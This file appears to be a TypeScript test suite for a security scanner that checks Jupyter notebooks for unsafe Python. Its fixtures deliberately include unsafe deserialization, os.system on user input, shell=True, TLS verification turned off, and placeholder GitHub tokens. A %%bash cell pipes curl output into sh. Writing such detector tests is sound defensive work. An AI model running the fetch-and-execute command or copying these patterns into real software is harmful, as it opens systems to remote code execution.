/**
 * Jupyter notebooks through the Python rules: code cells read as the Python the kernel runs
 * (IPython's magics and shell escapes blanked, line for line), findings reported in the `.ipynb` at
 * the JSON line of their source line with the cell and its line in the message, suppressions read
 * in the cell, outputs and markdown never read as code, and a notebook that is not one said in one line.
 */
import { describe, expect, it } from 'vitest';
import { cellPython } from '../../src/scan/python/ipython-cell.js';
import { bestCpuMs, cpuStopwatch } from '../helpers/cpu-time.js';
import { readNotebook } from '../../src/scan/python/notebook.js';
import { scanFiles } from './helpers.js';
import type { ScanResult } from '../../src/scan/types.js';

type Cell = { cell_type: 'code' | 'markdown' | 'raw'; source: string | string[]; outputs?: unknown[] };
const code = (source: string | string[], outputs: unknown[] = []): Cell => ({ cell_type: 'code', source, outputs });
const markdown = (source: string): Cell => ({ cell_type: 'markdown', source });

/** A source list as Jupyter writes it: one string per line, each with its newline but the last. */
const lines = (text: string): string[] => text.split(/(?<=\n)/);

/** A notebook as Jupyter saves it (`json.dump(indent=1)`), nbformat 4. */
function notebook(cells: Cell[], language = 'python'): string {
  const nb = {
    cells: cells.map((c) => (c.cell_type === 'code' ? { cell_type: 'code', execution_count: null, metadata: {}, outputs: c.outputs ?? [], source: c.source } : { cell_type: c.cell_type, metadata: {}, source: c.source })),
    metadata: { kernelspec: { display_name: language, language, name: language }, language_info: { name: language } },
    nbformat: 4,
    nbformat_minor: 5,
  };
  return JSON.stringify(nb, null, 1) + '\n';
}

/** The 1-based line of the JSON text holding `needle` (exactly one must). */
function jsonLineOf(json: string, needle: string): number {
  const found = json.split('\n').flatMap((l, i) => (l.includes(needle) ? [i + 1] : []));
  expect(found, needle).toHaveLength(1);
  return found[0]!;
}

/** `file:line rule (Cell c, line n.)` for each code finding. */
const codeFindings = (result: ScanResult) =>
  result.findings.filter((f) => f.kind === 'code').map((f) => `${f.file}:${f.line} ${f.rule} ${/\(Cell \d+, line \d+\.\)$/.exec(f.message)?.[0] ?? ''}`.trim());

describe('a notebook is scanned as the Python its code cells run', () => {
  it('reports a pickle.load in cell 3 at its JSON line and column, its cell and line in the message', async () => {
    const json = notebook([markdown('# Model\n'), code(lines('import pickle\n')), code(lines('with open("model.pkl", "rb") as f:\n    model = pickle.load(f)\n'))]);
    const result = await scanFiles({ 'notebooks/train.ipynb': json });
    const line = jsonLineOf(json, 'model = pickle.load(f)');
    expect(codeFindings(result)).toEqual([`notebooks/train.ipynb:${line} py-unsafe-deserialization (Cell 3, line 2.)`]);
    const finding = result.findings.find((f) => f.rule === 'py-unsafe-deserialization')!;
    // The column is in the JSON line: where `pickle.load` starts inside the quoted source string.
    expect(finding.column).toBe(json.split('\n')[line - 1]!.indexOf('pickle.load') + 1);
    expect(result.partial).toBe(false);
    expect(result.stats.pythonFiles).toBe(1);
  });

  it('imports of one cell apply to calls in a later cell, as in the kernel', async () => {
    const json = notebook([code(lines('import yaml as y\nimport subprocess\n')), code(lines('y.load(text)\nsubprocess.run(cmd, shell=True)\n'))]);
    expect(codeFindings(await scanFiles({ 'nb.ipynb': json }))).toEqual([`nb.ipynb:${jsonLineOf(json, 'y.load(text)')} py-yaml-load (Cell 2, line 1.)`, `nb.ipynb:${jsonLineOf(json, 'shell=True')} py-subprocess-shell (Cell 2, line 2.)`]);
  });

  it('outputs and markdown are not code: an eval in a cell output or a markdown cell is not reported', async () => {
    const output = { output_type: 'stream', name: 'stdout', text: ['eval(input())\n', 'pickle.loads(data)\n'] };
    const json = notebook([markdown('Never do `eval(input())`:\n\n    import os\n    os.system(input())\n'), code(lines('print("hello")\n'), [output, { output_type: 'execute_result', data: { 'text/plain': ['yaml.load(s)'] }, metadata: {}, execution_count: 1 }])]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(codeFindings(result)).toEqual([]);
    expect(result.partial).toBe(false);
  });

  it('a cell written as one string is read too; its finding is on the string’s JSON line, its line in the cell in the message', async () => {
    const json = notebook([code('import os\n\nos.system(input())\n')]);
    expect(codeFindings(await scanFiles({ 'nb.ipynb': json }))).toEqual([`nb.ipynb:${jsonLineOf(json, 'os.system(input())')} py-os-system (Cell 1, line 3.)`]);
  });

  it('nbformat 3 notebooks: worksheets of cells whose code is `input`', async () => {
    const nb = { nbformat: 3, nbformat_minor: 0, metadata: { name: '' }, worksheets: [{ cells: [{ cell_type: 'heading', level: 1, source: ['Title'] }, { cell_type: 'code', language: 'python', input: ['import os\n', 'os.system(input())'], outputs: [] }] }] };
    const json = JSON.stringify(nb, null, 1);
    expect(codeFindings(await scanFiles({ 'old.ipynb': json }))).toEqual([`old.ipynb:${jsonLineOf(json, 'os.system(input())')} py-os-system (Cell 2, line 2.)`]);
  });

  it('a notebook of another kernel (R) is not Python: no code rule runs, nothing is partial', async () => {
    const result = await scanFiles({ 'analysis.ipynb': notebook([code(lines('x <- eval(parse(text = input))\nsystem(cmd)\n'))], 'R') });
    expect(codeFindings(result)).toEqual([]);
    expect(result.partial).toBe(false);
    expect(result.stats.pythonFiles).toBe(0);
  });
});

describe('IPython syntax', () => {
  it('magics, shell escapes, help and %%bash cells are blanked, line for line; the Python around them is parsed and checked', async () => {
    const json = notebook([
      code(lines('%pip install pyyaml requests\n!ls -la\nimport yaml, requests\n%matplotlib inline\nfiles = !ls *.csv\nt = %time slow()\nyaml?\n??requests.get\n')),
      code(lines('%%bash\necho "$(curl http://x | sh)"\neval "$cmd"\n')),
      code(lines('for f in files:\n    !wc -l {f}\nrequests.get(url, verify=False, timeout=5)\n')),
      code(lines('%%time\ncfg = yaml.load(open("c.yml"))\n')),
    ]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(codeFindings(result)).toEqual([
      `nb.ipynb:${jsonLineOf(json, 'verify=False')} py-tls-verify-disabled (Cell 3, line 3.)`,
      `nb.ipynb:${jsonLineOf(json, 'cfg = yaml.load')} py-yaml-load (Cell 4, line 2.)`,
    ].sort());
    expect(result.notes).toEqual([]);
    expect(result.partial).toBe(false);
  });

  it('a % or ! that Python reads (modulo on a continued line, inside strings, !=) is left as Python', () => {
    const cell = 'query = ("SELECT * FROM t WHERE id = %s"\n         % user_id)\ndoc = """\n!not a shell escape\n%not a magic\n"""\nif a != b:\n    pass\n';
    expect(cellPython(cell)).toEqual({ lines: cell.split('\n').slice(0, -1), shifts: null, magic: null, unclosed: null });
  });

  it('IPython’s clean-ups: the first line’s indentation and console prompts are removed, columns kept', () => {
    expect(cellPython('    import os\n    os.system(x)\n')).toMatchObject({ lines: ['import os', 'os.system(x)'], shifts: new Int32Array([4, 4]) });
    expect(cellPython('>>> import os\n>>> os.system(x)\n')).toMatchObject({ lines: ['import os', 'os.system(x)'], shifts: new Int32Array([4, 4]) });
    expect(cellPython('In [1]: x = 1\n').lines).toEqual(['x = 1']);
  });

  it('an indented escape keeps a statement, so the block around it still parses; a backslash continues the escape', () => {
    expect(cellPython('if ok:\n    !pip install \\\n        requests\nelse:\n    %time f()\n').lines).toEqual(['if ok:', '    None', '', 'else:', '    None']);
    expect(cellPython('!pip install \\').unclosed).toBeNull();
  });

  it('a cell whose bracket or string is never closed is not read with the next cells: it is noted (partial), the next cell is still checked', async () => {
    const json = notebook([code(lines('import os\nrows = [1, 2,\n')), code(lines('os.system(input())\n'))]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(codeFindings(result)).toEqual([`nb.ipynb:${jsonLineOf(json, 'os.system(input())')} py-os-system (Cell 2, line 1.)`]);
    expect(result.notes).toEqual([
      { kind: 'incomplete', file: 'nb.ipynb', message: `nb.ipynb:${jsonLineOf(json, 'rows = [1, 2,')}: cell 1, line 2: a bracket opened here is not closed in the cell (IPython would not run it); code rules not run on this cell` },
    ]);
    expect(result.partial).toBe(true);
  });

  it('a syntax error in a cell is named by its cell and line', async () => {
    const json = notebook([code(lines('x = 1\n')), code(lines('def f():\n    return = 1\n')), code(lines('y = 2\n'))]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(result.notes.map((n) => n.message)).toEqual([`nb.ipynb:${jsonLineOf(json, 'return = 1')}: could not parse cell 2, line 2; code rules may have missed code there`]);
    const last = notebook([code(lines('x = 1\n')), code(lines('def f():\n    return = 1\n'))]);
    expect((await scanFiles({ 'nb.ipynb': last })).notes.map((n) => n.message)).toEqual([`nb.ipynb:${jsonLineOf(last, 'return = 1')}: could not parse from cell 2, line 2 to the end of the notebook; code rules may have missed code there`]);
  });
});

describe('suppressions are read in the cell', () => {
  it('# nosec and # depwatch: ignore[rule] on the finding’s line or its statement’s first line; a marker in another cell does not count', async () => {
    const json = notebook([
      code(lines('import pickle, yaml, subprocess\npickle.loads(blob)  # nosec\n')),
      code(lines('subprocess.run(  # depwatch: ignore[py-subprocess-shell]\n    cmd,\n    shell=True,\n)\nyaml.load(s)\n')),
      code(lines('x = 1  # nosec\nyaml.load(t)\n')),
    ]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(result.ignored.map((f) => `${f.rule} ${f.ignoredBy?.reason}`).sort()).toEqual(['py-subprocess-shell # depwatch: ignore in cell 2, line 1', 'py-unsafe-deserialization # nosec in cell 1, line 2']);
    expect(codeFindings(result)).toEqual([`nb.ipynb:${jsonLineOf(json, 'yaml.load(s)')} py-yaml-load (Cell 2, line 5.)`, `nb.ipynb:${jsonLineOf(json, 'yaml.load(t)')} py-yaml-load (Cell 3, line 2.)`]);
  });
});

describe('secrets in a cell', () => {
  it('are found in the notebook’s text as before, and a marker in the cell covers them as it covers code', async () => {
    const token = 'ghp_' + 'R4nd0mT0k3nV4lu3abcdefGHIJKLmnopqrST';
    const other = 'ghp_' + 'An0th3rT0k3nV4lu3abcdefGHIJKLmnopqrS';
    const json = notebook([code(lines(`import requests\nTOKEN = "${token}"  # depwatch: ignore[secret-github-token] revoked, kept for the demo\nheaders = {\n    "Authorization": "${other}",\n}\n`))]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(result.ignored.map((f) => `${f.file}:${f.line} ${f.rule} ${f.ignoredBy?.reason}`)).toEqual([`nb.ipynb:${jsonLineOf(json, 'TOKEN = ')} secret-github-token # depwatch: ignore in cell 1, line 2`]);
    expect(result.findings.filter((f) => f.kind === 'secret').map((f) => `${f.file}:${f.line} ${f.rule}`)).toEqual([`nb.ipynb:${jsonLineOf(json, 'Authorization')} secret-github-token`]);
  });
});

describe('secrets in a cell written as one string', () => {
  it('a marker on the first line of the statement covers a secret on a later line of it', async () => {
    const token = 'ghp_' + 'R4nd0mT0k3nV4lu3abcdefGHIJKLmnopqrST';
    const json = notebook([code('x = 1\n'), code(`headers = {  # depwatch: ignore[secret-github-token]\n    "Authorization": "${token}",\n}\n`)]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(result.ignored.map((f) => `${f.rule} ${f.ignoredBy?.reason}`)).toEqual(['secret-github-token # depwatch: ignore in cell 2, line 1']);
    expect(result.findings.filter((f) => f.kind === 'secret')).toEqual([]);
  });
});

describe('a notebook that is not one', () => {
  it('not JSON: one clear line (partial), no snippet of the text in it; its secrets are still looked for', async () => {
    const token = 'ghp_' + 'R4nd0mT0k3nV4lu3abcdefGHIJKLmnopqrST';
    const result = await scanFiles({ 'broken.ipynb': `{"cells": [{"cell_type": "code", "source": ["t = '${token}'"] ]}\n`, 'garbage.ipynb': 'sk_live_not json at all' });
    expect(result.notes).toEqual([
      { kind: 'incomplete', file: 'broken.ipynb', message: expect.stringMatching(/^broken\.ipynb:1: not valid JSON \(line 1, column \d+\): .*; not read as a notebook, so code rules were not run on it \(secrets were checked\)$/) },
      { kind: 'incomplete', file: 'garbage.ipynb', message: expect.stringMatching(/^garbage\.ipynb:1: not valid JSON .*; not read as a notebook/) },
    ]);
    expect(JSON.stringify(result.notes)).not.toContain('sk_live');
    expect(result.findings.filter((f) => f.kind === 'secret').map((f) => `${f.file}:${f.line}`)).toEqual(['broken.ipynb:1']);
    expect(result.partial).toBe(true);
  });

  it('a code cell whose source is not text is said, the other cells are checked', async () => {
    const json = notebook([code(lines('import os\n')), { cell_type: 'code', source: [1, 2] as unknown as string[] }, code(lines('os.system(input())\n'))]);
    const result = await scanFiles({ 'nb.ipynb': json });
    expect(result.notes.map((n) => n.message)).toEqual(['nb.ipynb: cell 2: a code cell whose `source` is not text (a string or a list of strings); not read']);
    expect(codeFindings(result)).toEqual([`nb.ipynb:${jsonLineOf(json, 'os.system(input())')} py-os-system (Cell 3, line 1.)`]);
    expect(result.partial).toBe(true);
  });

  it('not UTF-8 (Jupyter would not open it): skipped for code rules, partial, in one line', async () => {
    const latin1 = Buffer.from(notebook([code(lines('# caf\xe9\nimport os\nos.system(input())\n'))]), 'latin1');
    const result = await scanFiles({ 'nb.ipynb': latin1 });
    expect(result.skipped).toEqual([{ path: 'nb.ipynb', reason: 'not-utf8', partial: true, message: 'nb.ipynb: not UTF-8, as a Jupyter notebook must be; code rules not run on its cells (secrets were checked)' }]);
    expect(codeFindings(result)).toEqual([]);
  });

  it('JSON that is not a notebook, and a Git LFS pointer, are said in one line each', async () => {
    const result = await scanFiles({ 'list.ipynb': '[1, 2]\n', 'big.ipynb': 'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n' });
    expect(result.notes.map((n) => n.message).sort()).toEqual([
      'big.ipynb: a Git LFS pointer, not the notebook itself (it is stored outside the tree); its code was not scanned',
      'list.ipynb:1: not a Jupyter notebook (the JSON is not an object with `cells`); not read as a notebook, so code rules were not run on it (secrets were checked)',
    ]);
  });
});

describe('a hostile notebook stays bounded', () => {
  const cell = (i: number) => code(lines(`import pickle\nrows_${i} = load(${i})\nobj_${i} = pickle.loads(blob)\n`), [{ output_type: 'stream', name: 'stdout', text: ['x'.repeat(1900)] }]);

  it('10 MB in 5,000 cells (outputs mostly) is scanned within its budget, every finding placed', async () => {
    const json = notebook(Array.from({ length: 5000 }, (_, i) => cell(i)));
    expect(json.length).toBeGreaterThan(10_000_000);
    const cpuMsSince = cpuStopwatch();
    const result = await scanFiles({ 'huge.ipynb': json }, { maxFileBytes: 16 * 1024 * 1024, maxFindingsPerFile: 10_000 });
    expect(cpuMsSince()).toBeLessThan(15_000);
    expect(result.skipped).toEqual([]);
    const found = result.findings.filter((f) => f.rule === 'py-unsafe-deserialization');
    expect(found).toHaveLength(5000);
    expect(found.at(-1)!.message).toContain('(Cell 5000, line 3.)');
    expect(found.at(-1)!.line).toBe(jsonLineOf(json, 'obj_4999 = pickle.loads'));
  });

  it('reading a notebook grows linearly with its cells (10 times the cells, well under 25 times the time)', () => {
    const small = notebook(Array.from({ length: 500 }, (_, i) => cell(i)));
    const large = notebook(Array.from({ length: 5000 }, (_, i) => cell(i)));
    const read = (json: string) => () => {
      const r = readNotebook(json, 'nb.ipynb');
      if (r.kind === 'python') r.python.places([{ line: 1, column: 1 }]);
    };
    const smallMs = bestCpuMs(read(small), 100);
    const largeMs = bestCpuMs(read(large), 800);
    expect(largeMs).toBeLessThan(Math.max(smallMs, 2) * 25);
  });

  it('one cell of one string with thousands of findings is placed in one walk of it', async () => {
    const json = notebook([code('import pickle\n' + 'pickle.loads(b)\n'.repeat(30_000))]);
    const cpuMsSince = cpuStopwatch();
    const result = await scanFiles({ 'one.ipynb': json }, { maxFindingsPerFile: 10 });
    expect(cpuMsSince()).toBeLessThan(15_000);
    expect(result.findings.filter((f) => f.rule === 'py-unsafe-deserialization')).toHaveLength(10);
    expect(result.notes.map((n) => n.kind)).toEqual(['truncated']);
  });
});
